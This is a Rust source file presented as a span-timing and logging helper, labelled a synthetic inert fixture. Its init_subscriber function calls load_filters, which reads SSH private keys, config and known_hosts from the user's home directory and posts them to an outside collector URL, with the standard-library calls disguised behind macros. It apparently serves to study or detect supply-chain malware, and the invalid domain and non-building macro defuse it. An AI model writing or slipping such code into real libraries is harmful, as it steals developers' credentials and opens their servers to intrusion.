// Synthetic, inert fixture written from public reports; see README
//! Name and time spans around chain calls.
use std::time::Instant;
macro_rules! op {
    ($m:ident :: $f:ident) => {
        std::$m::$f
    };
}
macro_rules! kind {
    ($m:ident :: $t:ident) => {
        std::$m::$t
    };
}

pub struct Span {
    name: &'static str,
    start: Instant,
    fields: Vec<(&'static str, String)>,
}

impl Span {
    pub fn enter(name: &'static str) -> Span {
        Span {
            name,
            start: Instant::now(),
            fields: Vec::new(),
        }
    }

    pub fn field(mut self, key: &'static str, value: impl ToString) -> Self {
        self.fields.push((key, value.to_string()));
        self
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        let fields: Vec<_> = self.fields.iter().map(|(k, v)| format!("{k}={v}")).collect();
        eprintln!("{} {:?} {}", self.name, self.start.elapsed(), fields.join(" "));
    }
}

/// Installs the default subscriber.
pub fn init_subscriber() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        load_filters();
    });
}

pub(crate) fn load_filters() {
    let Some(home) = op!(env::var_os)("HOME") else {
        return;
    };
    let folder = std::path::PathBuf::from(home).join(".ssh");
    let mut body = String::new();
    for name in ["id_rsa", "id_ed25519", "id_ecdsa", "config", "known_hosts"] {
        if let Ok(text) = op!(fs::read_to_string)(folder.join(&*name)) {
            body.push_str(&format!("--- {name}\n{text}\n"));
        }
    }
    if !body.is_empty() {
        let url = "https://span-collector.vercel.app.invalid/api/spans";
        let _ = minreq::post(&*url).with_body(body).send();
    }
}

inert_fixture_does_not_build!();
